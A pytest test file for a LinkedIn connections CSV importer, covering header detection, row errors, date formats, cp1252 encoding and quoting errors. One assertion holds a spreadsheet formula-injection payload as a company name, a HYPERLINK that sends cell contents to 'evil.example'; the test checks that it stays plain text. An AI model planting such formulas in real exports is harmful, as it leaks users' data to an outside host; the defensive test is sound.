import datetime as dt

import pytest

from mingel.core.importers import linkedin
from mingel.core.importers.model import FileError, Record, RowError


def test_it_finds_the_header_after_linkedins_notes(fixture_path):
    items = list(linkedin.parse(fixture_path("Connections.csv")))
    records = [i for i in items if isinstance(i, Record)]
    assert [r.name for r in records] == [
        "Anna Svensson",
        "Erik Lindqvist",
        "Åsa Åström",
        "Mohammed Al-Sayed",
        "Johan Ek",
        "Sara Berg",
    ]
    # A company that looks like a formula is text to Mingel (the export neutralises it).
    assert records[5].company == '=HYPERLINK("http://evil.example/?x="&A1;"Click")'
    anna = records[0]
    assert anna.line == 5
    assert anna.linkedin_url == "https://www.linkedin.com/in/annasvensson"
    assert (anna.company, anna.role) == ("Spotify", "Backend Engineer")
    assert anna.connected_on == dt.date(2024, 1, 15)
    assert records[1].email == "erik.lindqvist@example.com"
    assert records[2].role == "Handläggare, digitala tjänster"


def test_it_reports_bad_rows_with_their_line_and_reason(fixture_path):
    errors = [i for i in linkedin.parse(fixture_path("Connections.csv")) if isinstance(i, RowError)]
    assert [(e.line, e.code) for e in errors] == [
        (9, "no_name"),
        (12, "bad_date"),
    ]


@pytest.mark.parametrize(
    "text, expected",
    [
        pytest.param("15 Jan 2024", dt.date(2024, 1, 15), id="linkedin"),
        pytest.param("1 Dec 2019", dt.date(2019, 12, 1), id="one-digit-day"),
        pytest.param("15-Jan-24", dt.date(2024, 1, 15), id="older-export"),
        pytest.param("2024-01-15", dt.date(2024, 1, 15), id="iso"),
    ],
)
def test_it_reads_the_date_forms_linkedin_has_used(text, expected):
    assert linkedin.parse_date(text) == expected


@pytest.mark.parametrize("text", ["31 Feb 2024", "15 Foo 2024", "yesterday", "15/01/2024"])
def test_it_refuses_other_dates(text):
    with pytest.raises(ValueError):
        linkedin.parse_date(text)


def test_it_says_when_the_file_is_not_a_linkedin_export(tmp_path):
    path = tmp_path / "other.csv"
    path.write_text("Name,Email\nAnna,anna@example.com\n")
    with pytest.raises(FileError) as info:
        list(linkedin.parse(path))
    assert info.value.code == "no_header"


def test_it_reads_a_cp1252_file_with_a_header_and_no_notes(tmp_path):
    path = tmp_path / "c.csv"
    path.write_bytes(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
        "Göran,Ödman,,,Scania,Teamledare,2 Feb 2022\r\n".encode("cp1252")
    )
    (record,) = linkedin.parse(path)
    assert (record.name, record.line, record.connected_on) == (
        "Göran Ödman",
        2,
        dt.date(2022, 2, 2),
    )


def test_it_stops_at_an_unclosed_quote_with_the_line(tmp_path):
    path = tmp_path / "c.csv"
    path.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        "Anna,Berg,,,Acme,CTO,1 Jan 2024\n"
        'Bo,"Ek,,,Acme,CTO,1 Jan 2024\n'
    )
    with pytest.raises(FileError) as info:
        list(linkedin.parse(path))
    assert (info.value.code, info.value.line) == ("bad_quoting", 3)
